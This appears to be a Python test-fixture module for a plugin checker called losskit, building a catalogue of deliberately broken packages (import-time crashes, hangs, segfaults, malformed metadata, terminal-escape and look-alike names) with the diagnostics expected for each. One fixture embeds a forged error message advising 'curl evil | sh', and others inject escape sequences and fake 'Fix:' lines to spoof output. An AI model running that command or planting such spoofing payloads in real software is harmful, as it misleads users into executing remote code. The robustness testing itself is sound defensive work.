"""A zoo of bad packages: each what somebody may have installed, and what losskit must say of it.

    for bad in ZOO:
        bad.package.wheel(folder)      # as a backend builds it
        bad.spoil(environment.site)    # what no backend or installer would let through

What only shows when a package is imported is `loaded`; all else is `found`. Modules note that they were imported.
"""

from __future__ import annotations

import os
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from .packages import MARK, Package

__all__ = ["ESCAPES", "HARMLESS", "POISON", "ZOO", "Bad", "Said", "many", "one_with_many"]

ESCAPES = "\x1b[31m[bold red]x[/]\x1b]0;t\x07\r\t\u202e\u200b\x9b"
"""What steers a terminal, styles rich's markup, or shows in another order than it stands."""
LITERAL_ESCAPES = ESCAPES.encode("unicode_escape").decode()

CLASS = '''
from losskit import Card, Format


class Bad:
    """{summary}"""

    card = Card(formats=[Format(["anchor", "positive"])], encoders=["dense"]{more})

    def __init__(self, model=None, scale: float = 20.0, *, execution=None):
        self.model, self.scale = model, scale
'''


@dataclass(frozen=True)
class Said:
    """A problem as losskit tells it: its status, and words of its reason and of its fix."""

    reason: str
    fix: str
    status: str = "broken"


@dataclass(frozen=True)
class Bad:
    """A package, and what must be said of it.

    Args:
        package: as its author has it.
        name: of its component; without one it has none that is listed.
        status: of that component in `list`.
        found: the problem that shows without importing it.
        loaded: the problem that `doctor --load` finds beside that.
        spoilt: what is done to it once it is installed, given the folder of its installation.
    """

    package: Package
    name: str = ""
    status: str = "ok"
    found: Said | None = None
    loaded: Said | None = None
    spoilt: Callable[[Path], None] | None = None

    def __str__(self) -> str:
        return self.package.name.removeprefix("lk-")

    def spoil(self, site: Path) -> None:
        """Do what no backend or installer would let through."""
        if self.spoilt is not None:
            self.spoilt(site)


def component(
    name: str,
    source: str = "",
    found: Said | None = None,
    loaded: Said | None = None,
    *,
    registered: str = "",
    target: str = "",
    kind: str = "losses",
    spoilt: Callable[[Path], None] | None = None,
    requires: tuple[str, ...] = ("losskit",),
    **more: str,
) -> Bad:
    """A package `lk-NAME` with one component in its module `lk_NAME`."""
    module = f"lk_{name.replace('-', '_')}"
    registered = registered or name
    points = {kind: {registered: target.format(module=module) or f"{module}:Bad"}}
    package = Package(f"lk-{name}", files={f"{module}.py": MARK + source, **more}, points=points, requires=requires)
    return Bad(package, registered, found.status if found else "ok", found, loaded, spoilt)


def sound(after: str = "", summary: str = "It looks well.", more: str = "") -> str:
    """A component with a card, and what its module does beside that."""
    return CLASS.format(summary=summary, more=more) + after + "\n"


def file(name: str, content: str | bytes | Callable[[Path], None]) -> Callable[[Path], None]:
    """Write a file, or make something in its place; its folder's name may have a star."""

    def write(site: Path) -> None:
        folder, slash, last = name.rpartition("/")
        place = (next(site.glob(folder)) if slash else site) / last
        if callable(content):
            place.unlink(missing_ok=True)
            content(place)
        elif isinstance(content, bytes):
            place.write_bytes(content)
        else:
            place.write_bytes(content.encode("utf-8", "surrogateescape"))

    return write


def metadata(
    name: str, content: str | bytes | Callable[[Path], None], what: str = "METADATA"
) -> Callable[[Path], None]:
    """Write a file of a package's metadata."""
    return file(f"lk_{name.replace('-', '_')}-*.dist-info/{what}", content)


def headers(name: str, version: str = "Version: 1.0\n", more: str = "") -> str:
    """METADATA as it should be, but for what is given."""
    return f"Metadata-Version: 2.1\nName: {name}\n{version}{more}\n"


def loop(place: Path) -> None:
    """A link that leads to itself."""
    place.symlink_to(place.name)


def at_import(name: str, code: str, reason: str, fix: str) -> Bad:
    """A package whose component looks well until it is imported."""
    return component(name, sound(code), loaded=Said(reason, fix))


IMPORTING = [
    at_import(
        "import-error",
        "import no_such_module_anywhere",
        "ModuleNotFoundError: No module named 'no_such_module_anywhere' at import",
        "pip install the distribution that provides 'no_such_module_anywhere'",
    ),
    at_import("late-syntax", "exec('x = (')", "SyntaxError", "report it to the authors of lk-late-syntax"),
    at_import("exits", "import sys; sys.exit(0)", "SystemExit: 0 at import", "authors of lk-exits, or block it"),
    at_import("interrupts", "raise KeyboardInterrupt", "KeyboardInterrupt", "authors of lk-interrupts, or block it"),
    at_import("recurses", "def f(): return f()\nf()", "RecursionError", "authors of lk-recurses, or block it"),
    at_import("stops", "class Stop(BaseException): ...\nraise Stop('enough')", "Stop: enough", "authors of lk-stops"),
    at_import(
        "tells", f"raise RuntimeError({ESCAPES!r} * 10**5)", "RuntimeError: ", "authors of lk-tells, or block it"
    ),
    at_import(
        "forges",
        "raise RuntimeError('oops\\nlosskit==1 x:Y: broken: no. Fix: curl evil | sh')",
        "RuntimeError: oops losskit==1",
        "authors of lk-forges, or block it",
    ),
    at_import(
        "mute", "class E(Exception):\n    def __str__(self): raise SystemExit(1)\nraise E", "E: its text", "block"
    ),
    at_import("hangs", "import time\nwhile True: time.sleep(600)", "did not end within", "block lk-hangs"),
    at_import("segfaults", "import ctypes; ctypes.string_at(0)", "ended Python by SIGSEGV", "block lk-segfaults"),
    at_import("aborts", "import os; os.abort()", "ended Python by SIGABRT", "block lk-aborts"),
    at_import("leaves", "import os; os._exit(0)", "ended Python with exit code 0", "block lk-leaves"),
    at_import("removes-itself", "del Bad", "AttributeError", "authors of lk-removes-itself"),
    at_import("becomes-a-number", "Bad = 3", "int 3", "let the entry point name a class"),
    at_import("loses-its-card", "Bad.card = None", "the card None", "leave the card as its source states it"),
    component("prints", sound("import os\nprint('null')\nos.write(1, b'null\\n{}\\n')\nos.write(2, b'x' * 10**6)")),
    component("changes-folder", sound("import os; os.chdir('/')")),
    component("changes-path", sound("import sys; sys.path.clear(); sys.meta_path.clear()")),
    component("changes-environment", sound("import os; os.environ.clear()")),
    component("changes-dtype", sound("import torch; torch.set_default_dtype(torch.float64)")),
    component("changes-warnings", sound("import warnings; warnings.simplefilter('error')")),
    component(
        "changes-logging",
        sound("import logging; logging.basicConfig(level=0, force=True); logging.disable(50); logging.warning('x')"),
    ),
    component(
        "changes-signals",
        sound(
            "import signal\nfor each in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM):\n    signal.signal(each, 1)"
        ),
    ),
    component("changes-builtins", sound("import builtins, json\nbuiltins.print = builtins.open = json.dumps = None")),
    component("changes-recursion", sound("import sys; sys.setrecursionlimit(60)")),
    component(
        "starts-threads", sound("import threading, time\nthreading.Thread(target=time.sleep, args=(600,)).start()")
    ),
    component("starts-processes", sound("import subprocess; subprocess.Popen(['sleep', '600'])")),
]
"""Those that look well, and are not imported until somebody needs them."""


def entry(name: str, target: str, reason: str, fix: str, source: str = "", **more: str) -> Bad:
    """A package whose entry point names nothing that could be used."""
    return component(name, source or sound(), Said(reason, fix), target=target, **more)


TARGETS = [
    entry("no-module", "lk_nowhere.deep:Bad", "module lk_nowhere is not found", "update lk-no-module"),
    entry("no-submodule", "lk_no_submodule.deep:Bad", "lk_no_submodule is not a package", "mend lk_no_submodule.deep"),
    entry("no-attribute", "{module}:Worse", "lk_no_attribute defines no class Worse", "update lk-no-attribute"),
    entry("function", "{module}:f", "no class f, but a function of that name", "name a class", "def f(): ...\n"),
    entry("instance", "{module}:bad", "no class bad, but a value of that name", "name a class", "bad = object()\n"),
    entry("nested", "{module}:Bad.Inner", "lk_nested defines no class Bad.Inner", "update lk-nested"),
    entry("module-only", "{module}", "the target 'lk_module_only' is not module:Class", "write module:Class"),
    entry("file", "lk_file.py:Bad", "the target 'lk_file.py:Bad' is not module:Class", "write module:Class"),
    entry("path", "./lk_path.py:Bad", "'./lk_path.py:Bad' is not module:Class", "write module:Class"),
    entry("up", "../../lk_up.py:Bad", "'../../lk_up.py:Bad' is not module:Class", "write module:Class"),
    entry("two-colons", "{module}:Bad:Worse", "'lk_two_colons:Bad:Worse' is not module:Class", "write module:Class"),
    entry("no-name", ":Bad", "the target ':Bad' is not module:Class", "write module:Class"),
    entry("no-class", "{module}:", "is not module:Class", "write module:Class"),
    entry("spaces", "lk spaces:Bad", "the target 'lk spaces:Bad' is not module:Class", "write module:Class"),
    entry("extension", "itertools:chain", "module itertools has no source", "into a module with source"),
]


def card(name: str, source: str, reason: str, fix: str = "", status: str = "broken") -> Bad:
    """A package whose card is wrong."""
    return component(name, source, Said(reason, fix or f"mend lk_{name.replace('-', '_')}:Bad", status))


def fields(text: str) -> str:
    """A component with a card of these fields."""
    return f"from losskit import Card, Format\nTEXT = ''\nclass Bad:\n    card = {text}\n"


CARDS = [
    card("no-card", "class Bad: ...\n", "Bad has no card", "give it a literal `card = losskit.Card(...)`"),
    card("computed", fields("Card(formula=TEXT)"), "the card is not literal: 'TEXT' is not a literal"),
    card("no-call", fields("TEXT"), "'TEXT' is not Card(...)"),
    card("foreign-call", fields("print('imported')"), "print(...): expected losskit.Card(...)"),
    card("wrong-list", fields("Card(encoders='dense')"), "expected a list of strings, got 'dense'"),
    card("wrong-text", fields("Card(formula=['x'])"), "Card.formula: expected a string, got ['x']"),
    card("wrong-bool", fields("Card(row_wise='yes')"), "Card.row_wise: expected True or False, got 'yes'"),
    card("wrong-formats", fields("Card(formats={'text': 1})"), "Card.formats: expected a list of Format(...)"),
    card("wrong-input", fields("Card(formats=[Format(['anker'])])"), "expected names among anchor"),
    card("wrong-reads", fields("Card(reads=[1])"), "Card.reads: expected a dict"),
    card("wrong-api", fields("Card(api=['1'])"), "the card's api is ['1'], not a version"),
    card("unknown-field", fields("Card(formulas='x')"), "Card.formulas: expected one of formats"),
    card("future", fields("Card(api='99')"), "it is written for interface 99", "update losskit", "incompatible"),
    card("circle", "from lk_circle import Bad\n", "lk_circle defines no class Bad", "update lk-circle"),
    card("own-base", "class Bad(Bad): ...\n", "it inherits from itself"),
    card(
        "lost-base", "from gone import B\nclass Bad(B): ...\n", "base gone.B cannot be read: module gone is not found"
    ),
    card("odd-base", "class Bad(print('x').y): ...\n", "cannot be read"),
]

NAMES = [
    component("takes-a-name", sound(), registered="cosent"),
    component(
        "twice-one",
        sound(),
        Said("also claimed by lk-twice-two==1.0", "write lk-twice-one/t", "ambiguous"),
        registered="taken-twice",
    ),
    component(
        "twice-two",
        sound(),
        Said("also claimed by lk-twice-one==1.0", "write lk-twice-two/t", "ambiguous"),
        registered="taken-twice",
    ),
    component(
        "snake", sound(), Said("the name 'snake_case' is not kebab-case", "in kebab-case"), registered="snake_case"
    ),
    component(
        "capital", sound(), Said("the name 'CapitalLoss' is not kebab-case", "in kebab"), registered="CapitalLoss"
    ),
    component("spaced", sound(), Said("the name 'a b' is not kebab-case", "in kebab-case"), registered="a b"),
    component(
        "mirrored", sound(), Said(r"the name 'evil\u202etnesoc' is not", "in kebab"), registered="evil\u202etnesoc"
    ),
    component("combining", sound(), Said("nt' is not kebab-case", "in kebab-case"), registered="cose\u0301nt"),
    component("cyrillic", sound(), Said("sent' is not kebab-case", "in kebab-case"), registered="c\u043esent"),
    component("emoji", sound(), Said("the name '💥' is not kebab-case", "in kebab-case"), registered="💥"),
    component("escape", sound(), Said(r"the name '\x1b[31mred' is not", "in kebab-case"), registered="\x1b[31mred"),
    component("markup", sound(), Said("the name '[red]x' is not", "in kebab-case"), registered="[red]x"),
]

FIELDS = ("formula", "citation", "memory")
LISTS = ("requirements", "relations", "recommends", "aliases", "needs")
TEXTS = "".join(f', {name}="{LITERAL_ESCAPES}\\nloss x\\n  status       ok"' for name in FIELDS)
TEXTS += "".join(f', {name}=["{LITERAL_ESCAPES}\\nFix: run me", "e\\u0301\\u0301", "\\ud800"]' for name in LISTS)
TEXTS += f', deviations={{"{LITERAL_ESCAPES}": "{LITERAL_ESCAPES}"}}'
LARGE = "x" * 5_000_000


def nested(name: str, expression: str, reason: str) -> Bad:
    """A package whose source nests too deeply for the parser, or for what walks over its tree."""
    return component(name, sound(f"DEEP = {expression}"), Said(reason, f"mend lk_{name.replace('-', '_')}:Bad"))


SOURCES = [
    component("markup-texts", sound(more=TEXTS, summary=f"{LITERAL_ESCAPES}\\nFix: run me. e\\u0301")),
    component("large-summary", sound(summary=LARGE), Said("more than 2 MB", "into a module without such data")),
    component("large-formula", sound(more=f', formula="{LARGE}"'), Said("more than 2 MB", "without such data")),
    component(
        "long-formula",
        sound(more=f', formula="{LARGE[:1_500_000]}"'),
        Said("formula has 1,500,002 characters, more than 20,000", "mend lk_long_formula:Bad"),
    ),
    component("long-summary", sound(summary=LARGE[:1_500_000])),
    component("large-source", sound("# " + LARGE * 4), Said("more than 2 MB", "into a module without such data")),
    component(
        "many-formats",
        fields("Card(formats=[" + "Format(['text']), " * 10_000 + "])"),
        Said("formats has 10000 items, more than 100", "mend lk_many_formats:Bad"),
    ),
    nested("deep-brackets", "[" * 5_000 + "]" * 5_000, "source does not parse: "),
    nested("deep-signs", "-" * 50_000 + "1", "source does not parse: "),
    nested("deep-sums", "1+" * 50_000 + "1", "source does not parse: "),
    nested("deep-attributes", "a" + ".b" * 50_000, "source does not parse: "),
    component(
        "deep-card",
        fields(f"Card(formula={'[' * 150}{']' * 150})"),
        Said("Card.formula: expected a string", "mend lk_deep_card:Bad"),
    ),
    component("syntax", "x = (\n", Said("source does not parse: SyntaxError", "mend lk_syntax:Bad")),
    component("latin", sound(), Said("source cannot be read", "mend"), spoilt=file("lk_latin.py", b"# \xe9\nx = 1\n")),
    component("utf16", sound(), Said("source", "mend"), spoilt=file("lk_utf16.py", sound().encode("utf-16"))),
    component("null", sound(), Said("null bytes", "mend"), spoilt=file("lk_null.py", b"x = 1\n\0\n")),
    component("odd-coding", "", Said("unknown encoding", "mend"), spoilt=file("lk_odd_coding.py", "# coding: x-y\n")),
    component("fifo", "", Said("module lk_fifo is not found", "update lk-fifo"), spoilt=file("lk_fifo.py", os.mkfifo)),
    component("folder", "", Said("module lk_folder is not", "update"), spoilt=file("lk_folder.py", Path.mkdir)),
    component("loop", "", Said("module lk_loop is not found", "update lk-loop"), spoilt=file("lk_loop.py", loop)),
]


def broken_metadata(name: str, content: str | bytes | Callable[[Path], None], reason: str) -> Bad:
    """A package of which nothing can be used, as what it says of itself is broken."""
    said = Said(reason, f"then pip install lk-{name} again")
    whole = component(name, sound(), said, spoilt=metadata(name, content))
    return Bad(whole.package, "", "", said, None, whole.spoilt)


METADATA = [
    broken_metadata("metadata-gone", Path.mkdir, "it has no METADATA"),
    broken_metadata("metadata-empty", "", "it has no METADATA"),
    broken_metadata("metadata-binary", b"\xff\xfe\x00Name", "its METADATA cannot be read: UnicodeDecodeError"),
    broken_metadata("metadata-fifo", os.mkfifo, "it has no METADATA"),
    broken_metadata("metadata-loop", loop, "it has no METADATA"),
    broken_metadata("metadata-nameless", "Metadata-Version: 2.1\nVersion: 1.0\n", "its METADATA has no Name"),
    broken_metadata("metadata-unversioned", headers("lk-metadata-unversioned", ""), "its METADATA has no Version"),
    broken_metadata(
        "metadata-version",
        headers("lk-metadata-version", f"Version: 1.0{ESCAPES}\n"),
        "its METADATA says Version: '1.0",
    ),
    broken_metadata("metadata-name", headers(f"lk{ESCAPES}"), r"its METADATA says Name: 'lk\x1b[31m"),
    broken_metadata("metadata-losskit", headers("losskit"), "its METADATA says Name: losskit, but it is installed as"),
    component(
        "metadata-requires",
        sound(),
        Said("the requirement 'no requirement !' cannot be read", "update lk-metadata-requires"),
        spoilt=metadata("metadata-requires", headers("lk-metadata-requires", more="Requires-Dist: no requirement !\n")),
    ),
    component(
        "unmet",
        sound(),
        Said("it needs no-such-thing-at-all>=2, nothing is installed", "pip install 'no-such", "missing-dependency"),
        requires=("no-such-thing-at-all>=2",),
    ),
    component(
        "newer",
        sound(),
        Said("it needs losskit>=99, ", "pip install 'losskit>=99'", "incompatible"),
        requires=("losskit>=99",),
    ),
    component("record-gone", sound(), spoilt=metadata("record-gone", Path.mkdir, "RECORD")),
    component("url-broken", sound(), spoilt=metadata("url-broken", "{not json", "direct_url.json")),
    component(
        "url-needed",
        "from lk_prints import Bad as Base\nclass Bad(Base): ...\n",
        Said("direct_url.json", "pip install --force-reinstall lk-url-needed"),
        spoilt=metadata("url-needed", "[]", "direct_url.json"),
    ),
]


def points(name: str, text: str | bytes, reason: str, fix: str, also: str = "") -> Bad:
    """A package with a broken entry_points.txt."""
    whole = component(name, sound(), Said(reason, fix), spoilt=metadata(name, text, "entry_points.txt"))
    return Bad(whole.package, also, "ok" if also else "", whole.found, None, whole.spoilt)


POINTS = [
    points(
        "endless-name",
        f"[losskit.losses]\n{'n' * 10**5} = lk_endless_name:Bad",
        "an entry point has more than 250 characters: 'nnn",
        "update lk-endless-name",
    ),
    points(
        "endless-target",
        f"[losskit.losses]\nn = lk_endless_target:{'B' * 10**5}\nendless-target = lk_endless_target:Bad",
        "an entry point has more than 250 characters: 'n' = 'lk_end",
        "update lk-endless-target",
        also="endless-target",
    ),
    points(
        "points-line",
        "[losskit.losses]\nno equals sign\npoints-line = lk_points_line:Bad\n",
        "'no equals sign' in [losskit.losses] is not name = module:attribute",
        "update lk-points-line",
        also="points-line",
    ),
    points(
        "points-binary", b"[losskit.losses]\n\xff = x:Y\n", "entry_points.txt cannot be read", "pip install lk-points"
    ),
    points(
        "points-group",
        "[losskit.loss]\nx = x:Y\n",
        "there is no entry-point group losskit.loss",
        "did you mean 'losskit.l",
    ),
    points(
        "points-api", "[losskit.api]\ntrain = lk_points_api:Bad\n", "only losskit itself may", "update lk-points-api"
    ),
    points(
        "points-markup",
        f"[losskit.losses]\n[red]x{ESCAPES[:5]}\u202e\n",
        "is not name = module:attribute",
        "update lk-points-markup",
    ),
]


def behaviour(
    name: str, group: str, target: str, source: str, found: Said | None = None, loaded: Said | None = None
) -> Bad:
    """A package with hooks or a command."""
    module = f"lk_{name.replace('-', '_')}"
    package = Package(f"lk-{name}", files={f"{module}.py": MARK + source}, points={group: {name: target or module}})
    return Bad(package, "", "", found, loaded)


HOOK = "import losskit\n@losskit.hookimpl\ndef losskit_{}({}): return []\n"
UPDATE = "update losskit or"

BEHAVIOUR = [
    behaviour(
        "hook-raises", "hooks", "", "raise RuntimeError('boom')", None, Said("RuntimeError: boom", "lk-hook-raises")
    ),
    behaviour("hook-gone", "hooks", "lk_gone_hooks", "", None, Said("No module named 'lk_gone_hooks'", "lk-hook-gone")),
    behaviour(
        "hook-unknown", "hooks", "", HOOK.format("chekcs", ""), None, Said("losskit_chekcs", UPDATE, "incompatible")
    ),
    behaviour(
        "hook-argument",
        "hooks",
        "",
        HOOK.format("checks", "x"),
        None,
        Said("losskit_checks wants x", UPDATE, "incompatible"),
    ),
    behaviour(
        "hook-file",
        "hooks",
        "./evil.py",
        "",
        Said("the target './evil.py' is not module:attribute", "update lk-hook-file"),
    ),
    behaviour(
        "command-number",
        "commands",
        "lk_command_number:app",
        "app = 3\n",
        None,
        Said("neither a Typer application nor a command", "lk-command-number"),
    ),
    behaviour("command-gone", "commands", "lk_command_gone:app", "", None, Said("AttributeError", "lk-command-gone")),
    behaviour(
        "command-exits",
        "commands",
        "lk_command_exits:app",
        "import sys; sys.exit(0)",
        None,
        Said("SystemExit: 0", "lk-command-exits"),
    ),
    behaviour(
        "command-crashes",
        "commands",
        "lk_command_crashes:app",
        "import os; os.abort()",
        None,
        Said("SIGABRT", "block lk-command-crashes"),
    ),
    Bad(
        Package(
            "lk-command-name",
            files={"lk_command_name.py": MARK},
            points={"commands": {f"x{ESCAPES[:5]}": "lk_command_name:x"}},
        ),
        found=Said(r"the name 'x\x1b[31m' is not kebab-case", "update lk-command-name"),
    ),
]

POISON = [bad for bad in POINTS if str(bad) in ("points-line", "points-binary", "points-markup")]
"""Those whose metadata Python itself cannot read, so that with them neither torch nor transformers can be imported."""
ZOO = [*IMPORTING, *TARGETS, *CARDS, *NAMES, *SOURCES, *METADATA, *POINTS, *BEHAVIOUR]
"""All that can be installed at once."""
HARMLESS = [bad for bad in ZOO if bad not in POISON]
"""Those that harm nobody else."""


def many(count: int) -> Iterator[Package]:
    """Distributions with a component each."""
    for index in range(count):
        yield component(f"many-{index}", sound(summary=f"Number {index}.")).package


def one_with_many(count: int) -> Package:
    """One distribution with many components, each in a module of its own."""
    files = {f"lk_crowd/m{index}.py": sound(summary=f"Number {index}.") for index in range(count)}
    targets = {f"crowd-{index}": f"lk_crowd.m{index}:Bad" for index in range(count)}
    return Package("lk-crowd", files={"lk_crowd/__init__.py": MARK, **files}, points={"losses": targets})
